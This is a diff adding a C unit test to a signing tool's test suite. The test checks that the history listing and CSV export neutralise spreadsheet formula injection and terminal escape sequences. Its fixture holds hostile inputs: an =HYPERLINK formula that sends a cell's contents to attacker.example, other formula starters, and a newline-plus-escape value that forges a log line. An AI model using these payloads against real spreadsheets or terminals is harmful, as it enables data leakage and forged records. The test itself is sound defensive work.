@@ -231,12 +231,53 @@ static void proxy_settings_round_trip(void **state)
     setenv("CRPKI_HOME", g_home, 1);
 }
 
+/* Issue 28 N2, N4: what the signing record's readers print. A record's text
+ * is the caller's: a CSV cell that Excel would take as a formula starts with
+ * a ' instead, and the listing cleans every field, so a line break or a
+ * terminal escape in a record (written by an older version, or by editing the
+ * file) cannot forge a line or reach the terminal. */
+static void history_readers_neutralise_the_callers_text(void **state)
+{
+    (void)state;
+    char path[400], csv[400];
+    snprintf(path, sizeof path, "%s/history.jsonl", g_home);
+    snprintf(csv, sizeof csv, "%s/history-n2.csv", g_tmp);
+    spit(path, "{\"v\":1,\"time_ms\":1764840600000,\"time_local\":\"2025-12-04T18:30:00\","
+               "\"outcome\":\"denied\",\"code\":\"CRPKI_E_DENIED\",\"program\":\"x.exe\","
+               "\"what\":\"=HYPERLINK(\\\"https://attacker.example/?\\\"&A2,\\\"click\\\")\","
+               "\"subject\":\"@SUM(1+1)\",\"algorithm\":\"+cmd\",\"approval_code\":\"\","
+               "\"count\":1,\"duration_ms\":5,\"digests\":[]}\n"
+               "{\"v\":1,\"time_ms\":1764840601000,\"time_local\":\"2025-12-04T18:30:01\","
+               "\"outcome\":\"denied\",\"code\":\"CRPKI_E_DENIED\",\"program\":\"x.exe\","
+               "\"what\":\"b.pdf\\n2026-01-01T00:00:00  \\u7f72\\u540d\\u6e08\\u307f\\u001b[2J\","
+               "\"algorithm\":\"-1\",\"approval_code\":\"\",\"count\":1,\"duration_ms\":5,"
+               "\"digests\":[]}\n");
+    run_result r;
+    RUN(&r, "--lang", "ja", "history", "--csv", csv);
+    expect_exit(&r, 0, "history --csv");
+    /* the listing: no escape, no forged line starting with a date */
+    assert_null(strchr(r.out, '\x1b'));
+    assert_null(strstr(r.out, "\n2026-01-01"));
+    assert_non_null(strstr(r.out, "b.pdf 2026-01-01T00:00:00 署名済み [2J"));
+    run_free(&r);
+    char *text = slurp(csv);
+    assert_non_null(text);
+    assert_non_null(strstr(text, "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A2"));
+    assert_null(strstr(text, "\"=HYPERLINK"));
+    assert_non_null(strstr(text, "\"'@SUM(1+1)\""));
+    assert_non_null(strstr(text, "\"'+cmd\""));
+    assert_non_null(strstr(text, "\"'-1\""));
+    free(text);
+    remove(path);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(bad_arguments_exit_2_with_usage),
         cmocka_unit_test(status_before_login_is_unhealthy),
         cmocka_unit_test(proxy_settings_round_trip),
+        cmocka_unit_test(history_readers_neutralise_the_callers_text),
     };
     return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
